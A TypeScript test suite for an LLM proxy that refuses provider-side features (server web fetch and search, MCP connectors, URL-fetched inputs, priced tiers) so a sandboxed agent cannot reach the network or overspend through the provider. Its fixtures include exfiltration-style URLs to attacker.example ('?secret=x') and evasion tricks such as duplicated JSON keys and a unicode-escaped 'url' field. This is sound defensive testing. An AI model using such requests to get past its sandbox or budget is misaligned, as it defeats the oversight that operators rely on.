// A request that asks the provider to act on its own side (a server tool that
// fetches any URL, the MCP connector, a background generation, input the
// provider holds) is refused before it goes upstream, unless the operator
// allows that feature: otherwise an agent in a sandbox with no network reaches
// the network through the provider, and spends outside its budget.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { startFixture, type ProxyFixture, type SessionEndpoint } from "./proxy-fixture.js";

const FUNCTION_TOOL = { name: "read_file", description: "reads a file", input_schema: { type: "object" } };

interface Case {
  name: string;
  route: "messages" | "chat" | "responses";
  /** The body, or its JSON text where JSON.stringify cannot write it (a repeated name). */
  body: Record<string, unknown> | string;
  /** What the refusal must name: where, then the feature. */
  names?: RegExp;
  /** Client headers beside the session's. */
  headers?: Record<string, string>;
  /** A feature that only changes the price: the refusal says it is billed above the table's. */
  priced?: true;
}

const anthropic = (extra: Record<string, unknown>): Record<string, unknown> => ({
  model: "claude-sonnet-5",
  max_tokens: 100,
  messages: [{ role: "user", content: "hi" }],
  ...extra,
});
const chat = (extra: Record<string, unknown>): Record<string, unknown> => ({
  model: "gpt-5",
  messages: [{ role: "user", content: "hi" }],
  ...extra,
});
const responses = (extra: Record<string, unknown>): Record<string, unknown> => ({
  model: "gpt-5",
  input: "hi",
  max_output_tokens: 100,
  ...extra,
});

const REFUSED: Case[] = [
  {
    name: "Anthropic's web_fetch server tool, beside a function",
    route: "messages",
    body: anthropic({ tools: [FUNCTION_TOOL, { type: "web_fetch_20250910", name: "web_fetch" }] }),
    names: /tools\[1\] \(web_fetch_20250910\): web_fetch/,
  },
  {
    name: "Anthropic's web_search server tool",
    route: "messages",
    body: anthropic({ tools: [{ type: "web_search_20250305", name: "web_search" }] }),
    names: /tools\[0\] \(web_search_20250305\): web_search/,
  },
  {
    name: "Anthropic's code execution",
    route: "messages",
    body: anthropic({ tools: [{ type: "code_execution_20250825", name: "code_execution" }] }),
    names: /code_execution/,
  },
  {
    name: "Anthropic's MCP connector",
    route: "messages",
    body: anthropic({ mcp_servers: [{ type: "url", url: "https://attacker.example/mcp", name: "x" }] }),
    names: /mcp_servers: mcp/,
  },
  {
    name: "a tool typed custom in one copy of `type` and a server tool in another",
    route: "messages",
    body: "", // written below
    names: /tools\[0\] \(web_fetch_20250910\): web_fetch/,
  },
  {
    name: "a server tool in a repeated `tools`",
    route: "messages",
    body: "", // written below
    names: /web_search/,
  },
  {
    name: "a tool whose type is not a string",
    route: "messages",
    body: anthropic({ tools: [{ type: ["web_fetch_20250910"], name: "x" }] }),
    names: /tools\[0\]: unreadable tool/,
  },
  {
    name: "chat's web_search_options",
    route: "chat",
    body: chat({ web_search_options: {} }),
    names: /web_search_options: web_search/,
  },
  {
    name: "Responses' hosted web search",
    route: "responses",
    body: responses({ tools: [{ type: "web_search_preview" }] }),
    names: /tools\[0\] \(web_search_preview\): web_search/,
  },
  {
    name: "Responses' remote MCP tool",
    route: "responses",
    body: responses({ tools: [{ type: "mcp", server_label: "x", server_url: "https://attacker.example/mcp" }] }),
    names: /tools\[0\] \(mcp\): mcp/,
  },
  {
    name: "a background Responses call",
    route: "responses",
    body: responses({ background: true }),
    names: /background: background/,
  },
  {
    name: "chat at OpenAI's priority tier, billed above the table's price",
    route: "chat",
    body: chat({ service_tier: "priority" }),
    names: /service_tier: priority_tier/,
    priced: true,
  },
  {
    name: "a Responses call at the scale tier",
    route: "responses",
    body: responses({ service_tier: "scale" }),
    names: /service_tier: priority_tier/,
    priced: true,
  },
  {
    name: "Anthropic's 1M-token context beta (twice the input price past 200k)",
    route: "messages",
    body: anthropic({}),
    headers: { "anthropic-beta": "interleaved-thinking-2025-05-14, context-1m-2025-08-07" },
    names: /anthropic-beta: context-1m-2025-08-07: long_context/,
    priced: true,
  },
  {
    name: "Anthropic's fast mode",
    route: "messages",
    body: anthropic({ speed: "fast" }),
    names: /speed: fast_mode/,
    priced: true,
  },
  {
    name: "Anthropic's inference in the US only (1.1 times)",
    route: "messages",
    body: anthropic({ inference_geo: "us" }),
    names: /inference_geo: inference_geo/,
    priced: true,
  },
  {
    name: "an hour's prompt cache (a write costs twice the input price)",
    route: "messages",
    body: anthropic({
      system: [{ type: "text", text: "be brief", cache_control: { type: "ephemeral", ttl: "1h" } }],
    }),
    names: /system\[0\]: cache_1h/,
    priced: true,
  },
  {
    name: "input the provider holds (previous_response_id)",
    route: "responses",
    body: responses({ previous_response_id: "resp_123" }),
    names: /previous_response_id: stored_context/,
  },
  {
    name: "an Anthropic image the provider would fetch from a URL",
    route: "messages",
    body: anthropic({
      messages: [
        { role: "user", content: "look" },
        {
          role: "user",
          content: [{ type: "image", source: { type: "url", url: "https://attacker.example/?secret=x" } }],
        },
      ],
    }),
    names: /messages\[1\]\.content\[0\]: input_urls/,
  },
  {
    name: "an Anthropic document inside a tool result, given by a URL whose name is escaped",
    route: "messages",
    body: "", // written below
    names: /messages\[0\]\.content\[0\]\.content\[0\]: input_urls/,
  },
  {
    name: "an Anthropic file the provider holds",
    route: "messages",
    body: anthropic({
      messages: [{ role: "user", content: [{ type: "document", source: { type: "file", file_id: "file_1" } }] }],
    }),
    names: /messages\[0\]\.content\[0\]: stored_context/,
  },
  {
    name: "a chat image the provider would fetch",
    route: "chat",
    body: chat({
      messages: [
        { role: "user", content: [{ type: "image_url", image_url: { url: "http://attacker.example/x.png" } }] },
      ],
    }),
    names: /messages\[0\]\.content\[0\]: input_urls/,
  },
  {
    name: "a Responses file given by URL",
    route: "responses",
    body: responses({
      input: [{ role: "user", content: [{ type: "input_file", file_url: "https://attacker.example/a.pdf" }] }],
    }),
    names: /input\[0\]\.content\[0\]: input_urls/,
  },
  {
    name: "a Responses item the provider stored",
    route: "responses",
    body: responses({ input: [{ type: "item_reference", id: "msg_1" }] }),
    names: /input\[0\]: stored_context/,
  },
];

REFUSED[4]!.body =
  '{"model":"claude-sonnet-5","max_tokens":100,"messages":[{"role":"user","content":"hi"}],' +
  '"tools":[{"type":"web_fetch_20250910","name":"web_fetch","type":"custom"}]}';
REFUSED[5]!.body =
  '{"model":"claude-sonnet-5","max_tokens":100,"messages":[{"role":"user","content":"hi"}],' +
  '"tools":[{"type":"web_search_20250305","name":"web_search"}],"tools":[]}';

// "\u0075rl" is "url": a search of the bytes for the plain name alone would miss it.
REFUSED.find((c) => c.name.includes("escaped"))!.body =
  '{"model":"claude-sonnet-5","max_tokens":100,"messages":[{"role":"user","content":[{"type":"tool_result",' +
  '"tool_use_id":"t1","content":[{"type":"document","source":{"type":"\\u0075rl","\\u0075rl":"https://attacker.example/"}}]}]}]}';

function urlOf(endpoint: SessionEndpoint, route: Case["route"]): string {
  if (route === "messages") return `${endpoint.anthropicBaseUrl}/v1/messages`;
  return `${endpoint.openaiBaseUrl}/${route === "chat" ? "chat/completions" : "responses"}`;
}

async function send(
  endpoint: SessionEndpoint,
  c: Pick<Case, "route" | "body" | "headers">,
): Promise<{ status: number; text: string }> {
  const auth: Record<string, string> =
    c.route === "messages" ? { "x-api-key": endpoint.token } : { authorization: `Bearer ${endpoint.token}` };
  const response = await fetch(urlOf(endpoint, c.route), {
    method: "POST",
    headers: { "content-type": "application/json", ...auth, ...endpoint.headers, ...c.headers },
    body: typeof c.body === "string" ? c.body : JSON.stringify(c.body),
  });
  return { status: response.status, text: await response.text() };
}

void describe("provider-side features", () => {
  let fx: ProxyFixture;
  let endpoint: SessionEndpoint;
  before(async () => {
    fx = await startFixture({
      turns: Array.from({ length: 16 }, () => ({ text: "ok", usage: { input: 1, output: 1 } })),
    });
    endpoint = await fx.session();
  });
  after(() => fx.close());

  for (const c of REFUSED) {
    void it(`refuses ${c.name}, in the API's own error shape, and the provider never hears of it`, async () => {
      const before = fx.model.requests.length;
      const r = await send(endpoint, c);
      assert.equal(r.status, 403, r.text);
      const error = JSON.parse(r.text) as { error: { type: string; message: string } };
      assert.equal(error.error.type, "permission_error");
      assert.match(error.error.message, c.names!);
      assert.match(
        error.error.message,
        c.priced
          ? /bills above the prices it meters at, which no budget would bound/
          : /outside the sandbox and outside metering/,
      );
      assert.equal(fx.model.requests.length, before);
    });
  }

  void it("refuses a request that names its model twice: priced by one copy, it would be answered by either", async () => {
    const before = fx.model.requests.length;
    const r = await send(endpoint, {
      route: "chat",
      body: '{"model":"gpt-5-pro","model":"gpt-5-nano","messages":[{"role":"user","content":"hi"}]}',
    });
    assert.equal(r.status, 400, r.text);
    assert.match(r.text, /names its model more than once/);
    assert.equal(fx.model.requests.length, before);
  });

  void it("refuses on count_tokens what it refuses on messages: counting a request has the provider fetch its URLs and list its MCP servers' tools", async () => {
    const before = fx.model.requests.length;
    const image = { type: "image", source: { type: "url", url: "https://attacker.example/?secret=x" } };
    const cases: [Record<string, unknown>, RegExp][] = [
      [anthropic({ messages: [{ role: "user", content: [image] }] }), /messages\[0\]\.content\[0\]: input_urls/],
      [
        anthropic({ mcp_servers: [{ type: "url", url: "https://attacker.example/mcp", name: "x" }] }),
        /mcp_servers: mcp/,
      ],
    ];
    for (const [body, names] of cases) {
      const r = await fetch(`${endpoint.anthropicBaseUrl}/v1/messages/count_tokens`, {
        method: "POST",
        headers: { "content-type": "application/json", "x-api-key": endpoint.token, ...endpoint.headers },
        body: JSON.stringify(body),
      });
      const text = await r.text();
      assert.equal(r.status, 403, text);
      const error = JSON.parse(text) as { type: string; error: { type: string; message: string } };
      assert.equal(error.error.type, "permission_error");
      assert.match(error.error.message, names);
    }
    assert.equal(fx.model.requests.length, before, "the provider never heard of either");
    // The control: a count of the client's own content goes through.
    const counted = await fetch(`${endpoint.anthropicBaseUrl}/v1/messages/count_tokens`, {
      method: "POST",
      headers: { "content-type": "application/json", "x-api-key": endpoint.token, ...endpoint.headers },
      body: JSON.stringify(anthropic({ tools: [FUNCTION_TOOL] })),
    });
    assert.equal(counted.status, 200, await counted.text());
  });

  void it("names the variable that would allow a feature, and never an unreadable tool", async () => {
    const r = await send(endpoint, {
      route: "messages",
      body: anthropic({ tools: [{ type: "web_search_20250305", name: "web_search" }, { type: 7 }] }),
    });
    const { message } = (JSON.parse(r.text) as { error: { message: string } }).error;
    assert.match(message, /allow web_search with OZ0_PROVIDER_SIDE_FEATURES=web_search on the LLM proxy$/);
  });

  void it("passes the client's own tools (functions, custom tools, Anthropic's bash and text editor) and inline inputs", async () => {
    const cases: Pick<Case, "route" | "body" | "headers">[] = [
      {
        route: "messages",
        body: anthropic({
          tools: [
            FUNCTION_TOOL,
            { type: "custom", ...FUNCTION_TOOL },
            { type: "bash_20250124", name: "bash" },
            { type: "text_editor_20250728", name: "str_replace_based_edit_tool" },
          ],
        }),
      },
      {
        route: "messages",
        body: anthropic({
          messages: [
            {
              role: "user",
              content: [
                { type: "image", source: { type: "base64", media_type: "image/png", data: "iVBORw0KGgo=" } },
                { type: "text", text: 'a text that quotes {"type":"url","url":"https://x"} and \u001b[0m, caf\u00e9' },
              ],
            },
            // The model's own call: its input is no input of the request's.
            {
              role: "assistant",
              content: [
                { type: "tool_use", id: "t", name: "fetch", input: { source: { type: "url", url: "https://x" } } },
              ],
            },
            { role: "user", content: [{ type: "tool_result", tool_use_id: "t", content: "ok" }] },
          ],
        }),
      },
      {
        route: "chat",
        body: chat({
          tools: [{ type: "function", function: { name: "f" } }],
          messages: [
            {
              role: "user",
              content: [{ type: "image_url", image_url: { url: "data:image/png;base64,iVBORw0KGgo=" } }],
            },
          ],
        }),
      },
      { route: "responses", body: responses({ tools: [{ type: "function", name: "f" }], background: false }) },
      // The tiers, betas, speeds and cache lifetimes the table prices.
      { route: "messages", body: anthropic({ speed: "standard", inference_geo: "global" }) },
      {
        route: "messages",
        body: anthropic({ system: [{ type: "text", text: "x", cache_control: { type: "ephemeral", ttl: "5m" } }] }),
        headers: { "anthropic-beta": "interleaved-thinking-2025-05-14,fine-grained-tool-streaming-2025-05-14" },
      },
      { route: "chat", body: chat({ service_tier: "default" }) },
      { route: "responses", body: responses({ service_tier: "flex" }) },
      { route: "chat", body: chat({ service_tier: "auto" }) },
    ];
    for (const c of cases) {
      const r = await send(endpoint, c);
      assert.equal(r.status, 200, `${c.route}: ${r.text}`);
    }
  });

  void it("logs each refusal by code and feature, and nothing of the request", () => {
    const lines = fx.logs.filter((line) => line.includes("MODEL_REQUEST_PROVIDER_SIDE"));
    assert.ok(lines.length > 0);
    assert.ok(!lines.some((line) => line.includes("attacker.example")), lines.join("\n"));
  });
});

void describe("provider-side features an operator allows", () => {
  let fx: ProxyFixture;
  before(async () => {
    fx = await startFixture({
      turns: [{ text: "searched", usage: { input: 1, output: 1 } }],
      config: { providerSideFeatures: ["web_search"] },
    });
  });
  after(() => fx.close());

  void it("passes what is allowed, and still refuses the rest", async () => {
    const endpoint = await fx.session();
    const allowed = await send(endpoint, {
      route: "messages",
      body: anthropic({ tools: [{ type: "web_search_20250305", name: "web_search" }] }),
    });
    assert.equal(allowed.status, 200, allowed.text);
    assert.equal(fx.model.requests.length, 1);
    const refused = await send(endpoint, {
      route: "messages",
      body: anthropic({ tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] }),
    });
    assert.equal(refused.status, 403);
    assert.equal(fx.model.requests.length, 1);
  });
});
